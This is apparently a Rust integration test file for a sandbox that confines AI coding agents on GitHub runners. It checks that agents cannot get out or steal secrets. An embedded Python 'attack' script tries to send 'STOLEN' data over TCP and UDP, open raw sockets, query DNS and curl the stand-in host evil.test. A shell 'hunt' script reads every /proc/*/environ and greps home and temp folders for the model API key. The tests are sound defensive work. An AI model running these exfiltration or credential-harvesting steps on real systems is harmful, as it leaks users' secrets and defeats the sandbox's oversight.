//! Issue 37's ways out, tried by agents as GitHub's runner user would meet them
//! (`common::unprivileged`: ticks as an unprivileged user, from a shell whose environment holds
//! the forge token and the model key; agents under Landlock, allowed to write a loot folder).
//!
//! An agent in its network namespace tries a TCP connection and a UDP datagram to listeners
//! outside it, a raw socket, DNS, another port, a host nobody allowed (through the proxy), and
//! an allowed one; its check tries an allowed registry and a host allowed for nobody. A CLI that
//! looks for its model key everywhere an agent's process could finds only a placeholder, while
//! the model API gets the key.

use crate::common;

use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::path::Path;

use common::model_server::{ModelServer, Scenario};
use common::unprivileged::{Jail, CANARY};
use common::{minute, Setup};

/// A stand-in for every host the tests allow: answers any request with `hello from <host>`.
fn allowed_server() -> std::net::SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut buf = [0u8; 4096];
            let n = stream.read(&mut buf).unwrap_or(0);
            let head = String::from_utf8_lossy(&buf[..n]).to_string();
            let host = head
                .lines()
                .find_map(|l| {
                    l.strip_prefix("host: ")
                        .or_else(|| l.strip_prefix("Host: "))
                })
                .unwrap_or("?")
                .trim()
                .to_string();
            let body = format!("hello from {host}\n");
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    addr
}

/// A case with the network allow lists of the test, its agents under Landlock; `isolation`:
/// the `sandbox.network.isolation` setting.
fn jail_with(isolation: &str) -> Jail {
    let jail = Jail::confined(Setup::default());
    let path = jail.g.path().join(".opentiger.yml");
    let config = std::fs::read_to_string(&path).unwrap().replace(
        "sandbox:\n  filesystem: landlock\n",
        &format!("sandbox:\n  network:\n    isolation: {isolation}\n    allow:\n      worker: [allowed.test]\n      checks: [registry.test]\n  filesystem: landlock\n"),
    );
    // The check this test writes fetches from the network on purpose: the threat scan (issue
    // 36), which would hold that change for a person, is not what is tried here.
    let config = format!("{config}scan:\n  rules: false\n");
    std::fs::write(path, config).unwrap();
    jail
}

fn jail() -> Jail {
    jail_with("auto")
}

/// The agent's attempts, in python (as an agent's tool would make them), each result a line.
const ATTACK: &str = r#"
import os, socket, subprocess, sys
tcp_port, udp_port, loot = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
out = []
def connect(port):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=3)
        s.sendall(b"STOLEN")
        s.close()
        return "connected"
    except OSError as e:
        return "refused"
out.append("tcp-outside: " + connect(tcp_port))
out.append("other-port: " + connect(3129))
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"STOLEN", ("127.0.0.1", udp_port))
    out.append("udp: sent")
except OSError as e:
    out.append("udp: refused")
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    out.append("raw: opened")
except OSError:
    out.append("raw: refused")
try:
    socket.getaddrinfo("example.com", 443)
    out.append("dns: resolved")
except OSError:
    out.append("dns: failed")
try:
    ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
    q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    q.settimeout(2)
    q.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01", (ns, 53))
    q.recvfrom(512)
    out.append("resolver: answered")
except (OSError, IndexError):
    out.append("resolver: unreachable")
evil = subprocess.run(["curl", "-sS", "-o", "/dev/null", "https://evil.test/"], capture_output=True, text=True)
out.append(f"curl-evil: rc={evil.returncode} {evil.stderr.strip()}")
ok = subprocess.run(["curl", "-sS", "http://allowed.test/"], capture_output=True, text=True)
out.append(f"curl-allowed: {ok.stdout.strip()}")
open("fetched.txt", "w").write(ok.stdout)
open(loot, "a").write("\n".join(out) + "\n")
"#;

/// What the attack found and what the tick printed, for `isolation`.
struct Attempts {
    jail: Jail,
    found: String,
    id: String,
    tick_output: String,
    tick_stdout: String,
    tcp: TcpListener,
    udp: UdpSocket,
    registry: String,
}

fn attempt(isolation: &str) -> Attempts {
    let jail = jail_with(isolation);
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let (tcp_port, udp_port) = (
        tcp.local_addr().unwrap().port(),
        udp.local_addr().unwrap().port(),
    );
    let script = jail.g.tools_path().join("attack.py");
    std::fs::write(&script, ATTACK).unwrap();
    let results = jail.loot.with_file_name("network.txt");
    let registry = jail.loot.with_file_name("registry.txt");
    jail.g.agent(&format!(
        "#!/bin/sh\npython3 {} {tcp_port} {udp_port} {}\nprintf '#!/bin/sh\\ncurl -sSf http://registry.test/ > {} || exit 1\\ncurl -sS -o /dev/null http://evil-check.test/ 2>/dev/null\\nexit 0\\n' > check.sh\n",
        script.display(),
        results.display(),
        registry.display()
    ));
    let id = jail.add_task(&[
        "--title",
        "Net",
        "--goal",
        "fetch",
        "--command",
        "sh check.sh",
    ]);
    let server = allowed_server();
    let resolve = format!(
        "allowed.test={server},registry.test={server},evil.test={server},evil-check.test={server}"
    );
    let env = [("OPENTIGER_EGRESS_RESOLVE", resolve.as_str())];
    let out = jail.run(&minute(0), &["tick"], &env);
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    // The review and merge.
    let merged = jail.run(&minute(10), &["tick"], &env);
    assert_eq!(merged.code, 0, "{}\n{}", merged.stdout, merged.stderr);
    let found = std::fs::read_to_string(&results).unwrap_or_default();
    let registry = std::fs::read_to_string(&registry).unwrap_or_default();
    let shown = jail
        .run(common::NOW, &["task", "show", &id], &[])
        .ok()
        .stdout;
    assert!(
        jail.g
            .file_on_main("fetched.txt")
            .is_some_and(|t| t.contains("allowed.test")),
        "the allowed host's answer landed: {shown}\n{}",
        out.stderr
    );
    Attempts {
        jail,
        found,
        id,
        tick_output: out.stderr,
        tick_stdout: out.stdout,
        tcp,
        udp,
        registry,
    }
}

#[test]
fn an_agent_reaches_nothing_but_its_door() {
    let a = attempt("auto");
    for expected in [
        "tcp-outside: refused",
        "other-port: refused",
        "raw: refused",
        "dns: failed",
        "resolver: unreachable",
        "curl-allowed: hello from allowed.test",
    ] {
        assert!(
            a.found.contains(expected),
            "{expected}:\n{}\n{}",
            a.found,
            a.tick_output
        );
    }
    assert!(
        a.found.contains("curl-evil: rc=") && !a.found.contains("curl-evil: rc=0"),
        "{}",
        a.found
    );
    // The datagram and the connection carried nothing out.
    a.tcp.set_nonblocking(true).unwrap();
    assert!(a.tcp.accept().is_err(), "a connection reached the outside");
    a.udp.set_nonblocking(true).unwrap();
    assert!(
        a.udp.recv_from(&mut [0u8; 64]).is_err(),
        "a datagram reached the outside"
    );
    // The check reached the registry allowed for checks.
    assert!(
        a.registry.contains("hello from registry.test"),
        "{}",
        a.registry
    );
    // task show and status name each refused host and the line that allows it.
    let text = a
        .jail
        .run(common::NOW, &["task", "show", &a.id], &[])
        .ok()
        .stdout;
    for line in [
        "`evil.test:443` refused for the worker; to allow it, add to .opentiger.yml (into its `sandbox:` when it has one): `sandbox: {network: {allow: {worker: [\"evil.test\"]}}}`",
        "`evil-check.test:80` refused for the checks; to allow it, add to .opentiger.yml (into its `sandbox:` when it has one): `sandbox: {network: {allow: {checks: [\"evil-check.test\"]}}}`",
    ] {
        assert!(text.contains(line), "{line}:\n{text}");
    }
    let status = a.jail.run(common::NOW, &["status"], &[]).ok().stdout;
    assert!(
        status.contains("sandbox: {network: {allow: {worker: [\"evil.test\"]}}}"),
        "{status}"
    );
    // The tick's own output (and so the job summary's lines) says it too.
    assert!(
        a.tick_stdout
            .contains("refused: `evil.test:443` refused for the worker"),
        "{}",
        a.tick_stdout
    );
    assert!(!a.jail.loot_text().contains(CANARY));
}

/// Where the kernel refuses a namespace (here: asked for), Landlock lets agents connect over
/// TCP only to the proxy's port; the tick says what that leaves open.
#[test]
fn the_landlock_fallback_lets_tcp_reach_only_the_proxy_and_says_what_stays_open() {
    let a = attempt("landlock");
    for expected in [
        "tcp-outside: refused",
        "other-port: refused",
        "curl-allowed: hello from allowed.test",
    ] {
        assert!(a.found.contains(expected), "{expected}:\n{}", a.found);
    }
    assert!(!a.found.contains("curl-evil: rc=0"), "{}", a.found);
    a.tcp.set_nonblocking(true).unwrap();
    assert!(a.tcp.accept().is_err(), "a connection reached the outside");
    for output in [&a.tick_output, &a.tick_stdout] {
        assert!(
            output.contains("but UDP, DNS and raw sockets are not blocked"),
            "{output}"
        );
    }
    let text = a
        .jail
        .run(common::NOW, &["task", "show", &a.id], &[])
        .ok()
        .stdout;
    assert!(
        text.contains("sandbox: {network: {allow: {worker: [\"evil.test\"]}}}"),
        "{text}"
    );
}

/// The model key is in the step's environment (as the workflow sets it); the agent's CLI looks
/// for it in every process's environment, its home, the temp folders and its own environment,
/// and finds only its placeholder; the model API gets the key. For each executor that takes a
/// base URL.
fn a_cli_hunting_its_model_key_finds_only_a_placeholder(
    executor: &str,
    program: &str,
    key_var: &str,
    key: &str,
    host: &str,
) {
    let jail = jail();
    let server = ModelServer::start(Scenario::Success);
    let bin = jail.g.tools_path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let calling =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/agents/calling-cli.py");
    let real = jail.g.tools_path().join("real");
    std::fs::create_dir_all(&real).unwrap();
    std::fs::copy(&calling, real.join(program)).unwrap();
    let loot = jail.loot.display().to_string();
    let hunt = format!(
        "#!/bin/sh\n{{ echo \"ran: {program} $(id -u)\"; env; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < \"$f\" 2>/dev/null; done; grep -rI KeyOfTheWorkflow \"$HOME\" /tmp \"${{TMPDIR:-/tmp}}/..\" 2>/dev/null | head -20; }} >> {loot}\nexec python3 {} \"$@\"\n",
        real.join(program).display()
    );
    std::fs::write(bin.join(program), hunt).unwrap();
    use std::os::unix::fs::PermissionsExt;
    for file in [bin.join(program), real.join(program)] {
        std::fs::set_permissions(file, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let path = jail.g.path().join(".opentiger.yml");
    let model = match executor {
        "opencode" => "    model: anthropic/claude-sonnet-4-5\n",
        _ => "",
    };
    let worker = format!(
        "  worker:\n    executor: {executor}\n    command: [\"{}\"]\n{model}    env_passthrough: [FAKE_CLI_DIR]\n",
        bin.join(program).display()
    );
    let config = std::fs::read_to_string(&path)
        .unwrap()
        .replace("  worker:\n", &worker);
    std::fs::write(&path, config).unwrap();
    let id = jail.add_task(&["--title", "Reply", "--goal", "write reply.txt"]);
    let addr = server.base_url().trim_start_matches("http://").to_string();
    let resolve = format!("{host}={addr}");
    let record = jail.loot.parent().unwrap().display().to_string();
    let out = jail.run(
        &minute(0),
        &["tick"],
        &[
            (key_var, key),
            ("OPENTIGER_EGRESS_RESOLVE", resolve.as_str()),
            ("FAKE_CLI_DIR", record.as_str()),
        ],
    );
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    let loot = jail.loot_text();
    assert!(
        loot.contains(&format!("ran: {program}")),
        "{executor}: the CLI ran:\n{}",
        out.stderr
    );
    assert!(
        loot.contains(&format!("{key_var}=opentiger-placeholder-")),
        "{executor}: {loot}"
    );
    assert!(
        !loot.contains(key),
        "{executor}: the agent found the model key:\n{loot}"
    );
    assert!(!loot.contains(CANARY));
    let seen = server.seen();
    assert_eq!(
        seen.len(),
        1,
        "{executor}: {:?}\n{}\n{loot}",
        jail.runs(&id),
        out.stderr
    );
    assert_eq!(seen[0].key.as_deref(), Some(key), "{executor}");
    let runs = jail.runs(&id);
    assert_eq!(runs[0]["status"], "success", "{executor}: {runs:?}");
    assert!(!out.stdout.contains(key) && !out.stderr.contains(key));
}

// The keys are put together at run time: a checkout of these tests in /tmp (where the hunt
// looks) must not hold them whole.
fn anthropic_key() -> String {
    ["sk-ant-api03-", "STEPkeyOfTheWorkflow", "0123456789abcdef"].concat()
}

fn openai_key() -> String {
    ["sk-proj-", "STEPopenaiKeyOfTheWorkflow", "0123456789abcd"].concat()
}

#[test]
fn claude_code_hunting_its_model_key_finds_only_a_placeholder() {
    a_cli_hunting_its_model_key_finds_only_a_placeholder(
        "claude-code",
        "claude",
        "ANTHROPIC_API_KEY",
        &anthropic_key(),
        "api.anthropic.com",
    );
}

#[test]
fn codex_hunting_its_model_key_finds_only_a_placeholder() {
    a_cli_hunting_its_model_key_finds_only_a_placeholder(
        "codex",
        "codex",
        "OPENAI_API_KEY",
        &openai_key(),
        "api.openai.com",
    );
}

#[test]
fn opencode_hunting_its_model_key_finds_only_a_placeholder() {
    a_cli_hunting_its_model_key_finds_only_a_placeholder(
        "opencode",
        "opencode",
        "ANTHROPIC_API_KEY",
        &anthropic_key(),
        "api.anthropic.com",
    );
}

#[test]
fn aider_hunting_its_model_key_finds_only_a_placeholder() {
    a_cli_hunting_its_model_key_finds_only_a_placeholder(
        "aider",
        "aider",
        "ANTHROPIC_API_KEY",
        &anthropic_key(),
        "api.anthropic.com",
    );
}
